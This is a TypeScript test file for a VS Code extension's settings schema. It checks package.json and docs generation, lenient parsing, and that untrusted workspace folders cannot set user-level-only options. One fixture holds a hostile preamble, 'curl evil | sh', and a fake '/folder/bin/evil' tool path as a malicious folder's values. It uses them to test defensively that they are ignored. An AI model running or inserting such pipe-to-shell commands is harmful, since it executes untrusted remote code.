// One settings declaration (core/settings/schema.ts): every leaf carries its description, scope and
// flags; package.json's contributes.configuration and restrictedConfigurations and docs/settings.md's
// table are, field for field, what core/settings/manifest.ts writes from it; what a client sends is
// parsed leniently; a folder's value never reaches a user-level-only setting.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { z } from 'zod';
import { accountProblem } from '../../core/slurm/jobScript';
import {
  docsWithSettingsTable,
  firstDifference,
  manifestProperties,
  manifestProperty,
  manifestWithSettings,
} from '../../core/settings/manifest';
import {
  defaultSettings,
  parseSettings,
  parseSettingsReporting,
  settingLeaves,
  settingsSchema,
  USER_LEVEL_ONLY,
  withUserLevelOnly,
} from '../../core/settings/schema';
import { parseRunSettings } from '../../core/remote/settings';
import { parseSubmitSettings } from '../../core/slurm/settings';
import { PROGRAM_SETTINGS } from '../../server/settings';

const repo = join(__dirname, '..', '..');
const packageJson = readFileSync(join(repo, 'package.json'), 'utf8');
const manifest = JSON.parse(packageJson);
const declared: Record<string, Record<string, unknown>> = manifest.contributes.configuration.properties;

type JsonSchema = { type?: string; properties?: Record<string, JsonSchema>; [key: string]: unknown };

/** The schema's settings as zod's JSON schema flattens them: `run.srun.nodes` -> its JSON schema. */
function flatten(schema: JsonSchema, prefix = '', out: Record<string, JsonSchema> = {}) {
  for (const [key, value] of Object.entries(schema.properties ?? {})) {
    if (value.type === 'object' && value.properties) flatten(value, `${prefix}${key}.`, out);
    else out[`${prefix}${key}`] = value;
  }
  return out;
}

describe('settings schema', () => {
  it('every leaf setting has its description and scope (declared with setting())', () => {
    // zod's own view of the leaves, so that a leaf the walk in schema.ts missed is caught too.
    const leaves = Object.keys(flatten(z.toJSONSchema(settingsSchema, { io: 'input' }) as JsonSchema));
    assert.deepEqual(
      settingLeaves.map((leaf) => leaf.key),
      leaves,
    );
    assert.ok(leaves.length >= 20, 'the flattening found the settings');
    const undocumented = settingLeaves.filter((leaf) => !leaf.doc?.markdownDescription || !leaf.doc.scope);
    assert.deepEqual(
      undocumented.map((leaf) => leaf.key),
      [],
    );
  });

  it('a user-level-only setting is restricted and machine-scoped; a restricted one is machine(-overridable)', () => {
    for (const { key, doc } of settingLeaves) {
      if (doc?.userLevelOnly) assert.equal(doc.scope, 'machine', key);
      if (doc?.userLevelOnly) assert.equal(doc.restricted, true, key);
      if (doc?.restricted) assert.match(doc.scope, /^machine(-overridable)?$/, key);
    }
    assert.deepEqual(USER_LEVEL_ONLY, [
      'shellcheck.path',
      'run.sshConfigFile',
      'run.preamble',
      'submit.template',
    ]);
  });

  it('the programs the server takes from user settings only are user-level-only settings', () => {
    assert.ok(PROGRAM_SETTINGS.length > 0);
    for (const key of PROGRAM_SETTINGS) assert.ok(USER_LEVEL_ONLY.includes(key), key);
  });

  it('package.json is, field for field, what the schema gives (npm run generate writes it)', () => {
    const generated = manifestWithSettings(packageJson);
    const difference = firstDifference(JSON.parse(generated), manifest);
    assert.equal(difference, undefined, `package.json: ${difference}`);
    assert.equal(packageJson, generated, 'package.json: same fields, other formatting');
    // The fields the editor checks values with, straight from zod (the generator could drop one).
    const fromZod = flatten(z.toJSONSchema(settingsSchema, { io: 'input' }) as JsonSchema);
    for (const [key, spec] of Object.entries(fromZod)) {
      const property = declared[`lumiModules.${key}`];
      for (const field of ['type', 'default', 'enum', 'minimum', 'minLength', 'items'])
        if (spec[field] !== undefined) assert.deepEqual(property[field], spec[field], `${key}.${field}`);
    }
  });

  it('names the first field that differs', () => {
    const edited = structuredClone(manifest);
    edited.contributes.configuration.properties['lumiModules.run.venv'].markdownDescription = 'edited';
    const difference = firstDifference(JSON.parse(manifestWithSettings(packageJson)), edited) ?? '';
    assert.ok(
      difference.startsWith(
        'contributes.configuration.properties["lumiModules.run.venv"].markdownDescription: "edited", ' +
          'the schema gives "A venv on LUMI to activate',
      ),
      difference,
    );
    const { ['lumiModules.env']: env, ...rest } = manifest.contributes.configuration.properties;
    const moved = structuredClone(manifest);
    moved.contributes.configuration.properties = { ...rest, 'lumiModules.env': env };
    assert.equal(
      firstDifference(JSON.parse(manifestWithSettings(packageJson)), moved),
      'contributes.configuration.properties["lumiModules.env"]: out of order (the schema puts it first)',
    );
    const reordered = structuredClone(manifest);
    reordered.capabilities.untrustedWorkspaces.restrictedConfigurations.reverse();
    assert.match(
      firstDifference(JSON.parse(manifestWithSettings(packageJson)), reordered) ?? '',
      /^capabilities\.untrustedWorkspaces\.restrictedConfigurations\[0\]: /,
    );
  });

  it('every enum has a description per allowed value; a count that does not match stops the generator', () => {
    assert.equal((declared['lumiModules.luaVersion'].markdownEnumDescriptions as string[]).length, 4);
    const trace = settingLeaves.find((leaf) => leaf.key === 'trace.server')!;
    const short = { ...trace, doc: { ...trace.doc!, markdownEnumDescriptions: ['only one'] } };
    assert.throws(() => manifestProperty(short), /trace\.server: 3 allowed values need as many/);
    assert.throws(() => manifestProperty({ ...trace, doc: undefined }), /no description/);
  });

  it("submit.account's editor pattern accepts what core/slurm's accountProblem accepts", () => {
    const pattern = new RegExp(declared['lumiModules.submit.account'].pattern as string);
    for (const value of [
      '',
      'project_465000000',
      'project_46500000',
      'project_4650000001',
      'x',
      'project_abc',
    ])
      assert.equal(pattern.test(value), value === '' || accountProblem(value) === undefined, value);
  });

  it('docs/settings.md lists every setting with its default and description (written from the schema)', () => {
    const docs = readFileSync(join(repo, 'docs', 'settings.md'), 'utf8');
    assert.equal(docs, docsWithSettingsTable(docs), 'docs/settings.md: run npm run generate');
    for (const [key, property] of Object.entries(manifestProperties())) {
      const row = docs.split('\n').find((line) => line.startsWith(`| \`${key}\` |`));
      assert.ok(row, `${key} has a row`);
      const value = property.default;
      if (value !== '')
        assert.ok(row.includes(`\`${typeof value === 'string' ? value : JSON.stringify(value)}\``));
      assert.ok(row.includes(property.markdownDescription as string), key);
    }
  });

  it('defaults are what parse({}) gives and what package.json says', () => {
    assert.deepEqual(parseSettings({}), defaultSettings);
    assert.equal(defaultSettings.run.srun.partition, declared['lumiModules.run.srun.partition'].default);
    assert.equal(defaultSettings.trace.server, 'off');
  });

  it('a bad value keeps its previous value, or its default, and is reported; the others are taken', () => {
    const previous = parseSettings({ luaVersion: '5.1', run: { srun: { nodes: 4 } } });
    const { settings, problems } = parseSettingsReporting(
      {
        luaVersion: '9.9',
        run: { host: 'lumi', modules: ['a', 3, 'b'], srun: { nodes: 0 } },
        shellcheck: { path: '' },
      },
      previous,
    );
    assert.equal(settings.luaVersion, '5.1');
    assert.equal(settings.run.srun.nodes, 4);
    assert.equal(settings.run.host, 'lumi');
    assert.deepEqual(settings.run.modules, ['a', 'b']);
    assert.equal(settings.shellcheck.path, 'shellcheck');
    assert.deepEqual(problems.map((p) => p.split(':')[0]).sort(), [
      'luaVersion',
      'run.modules.1',
      'run.srun.nodes',
      'shellcheck.path',
    ]);
    const fresh = parseSettings({ luaVersion: '9.9', run: { srun: { nodes: 0 } } });
    assert.equal(fresh.luaVersion, '5.3');
    assert.equal(fresh.run.srun.nodes, 1);
  });

  it('run and submit read a blank value as unset and a padded one without its blanks, alike', () => {
    const run = parseRunSettings({ host: ' lumi ', venv: '  ', cwd: '/scratch/p ', modules: ['', 'm/1'] });
    assert.equal(run.host, 'lumi');
    assert.equal(run.venv, undefined);
    assert.equal(run.cwd, '/scratch/p');
    assert.deepEqual(run.modules, ['m/1']);
    const submit = parseSubmitSettings({
      account: ' project_465000000 ',
      template: ' ',
      sbatchOptions: [''],
    });
    assert.equal(submit.account, 'project_465000000');
    assert.equal(submit.template, undefined);
    assert.deepEqual(submit.sbatchOptions, []);
  });

  it('takes the section itself or wrapped in { lumiModules }, and nothing else', () => {
    assert.equal(parseSettings({ lumiModules: { luaVersion: 'LuaJIT' } }).luaVersion, 'LuaJIT');
    assert.equal(parseSettings({ luaVersion: 'LuaJIT' }).luaVersion, 'LuaJIT');
    assert.deepEqual(parseSettings('x'), defaultSettings);
    assert.deepEqual(parseSettings([1, 2]), defaultSettings);
  });
});

function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? sources(path) : path.endsWith('.ts') ? [path] : [];
  });
}

describe('user-level-only settings (the one reader, client/settings.ts readSettings)', () => {
  it('no other client file reads settings: getConfiguration only to update one, never inspect', () => {
    const readers: string[] = [];
    for (const file of sources(join(repo, 'client'))) {
      if (file === join(repo, 'client', 'settings.ts')) continue;
      const text = readFileSync(file, 'utf8');
      const name = file.slice(repo.length + 1);
      if (/\.inspect\s*[<(]/.test(text)) readers.push(`${name}: inspect`);
      for (const m of text.matchAll(/getConfiguration\s*\([^)]*\)(\s*\.\s*(\w+))?/g))
        if (m[2] !== 'update') readers.push(`${name}: ${m[0].replace(/\s+/g, '')}`);
    }
    assert.deepEqual(readers, []);
  });

  // What a folder's .vscode/settings.json merged into the editor's values could say.
  const fromFolder = {
    shellcheck: { path: '/folder/bin/evil' },
    run: { host: 'lumi', preamble: 'curl evil | sh', sshConfigFile: '/folder/ssh_config', modules: ['m/1'] },
    submit: { template: '/folder/job.sh', account: 'project_465000000' },
  };

  it("never takes a folder's value: without a user value the default applies", () => {
    const settings = parseSettings(withUserLevelOnly(fromFolder, () => undefined));
    assert.equal(settings.shellcheck.path, 'shellcheck');
    assert.equal(settings.run.preamble, '');
    assert.equal(settings.run.sshConfigFile, '');
    assert.equal(settings.submit.template, '');
    // The others are the merged values.
    assert.equal(settings.run.host, 'lumi');
    assert.deepEqual(settings.run.modules, ['m/1']);
    assert.equal(settings.submit.account, 'project_465000000');
  });

  it("takes the user's own value, also where the folder says nothing", () => {
    const user: Record<string, unknown> = {
      'shellcheck.path': '/usr/bin/shellcheck',
      'run.preamble': 'module purge',
      'submit.template': '/home/me/job.sh',
    };
    const asked: string[] = [];
    const settings = parseSettings(
      withUserLevelOnly({ run: 'not an object' }, (key) => {
        asked.push(key);
        return user[key];
      }),
    );
    assert.deepEqual(asked, USER_LEVEL_ONLY);
    assert.equal(settings.shellcheck.path, '/usr/bin/shellcheck');
    assert.equal(settings.run.preamble, 'module purge');
    assert.equal(settings.run.sshConfigFile, '');
    assert.equal(settings.submit.template, '/home/me/job.sh');
    assert.deepEqual(
      withUserLevelOnly(undefined, () => undefined),
      { shellcheck: {}, run: {}, submit: {} },
    );
  });
});
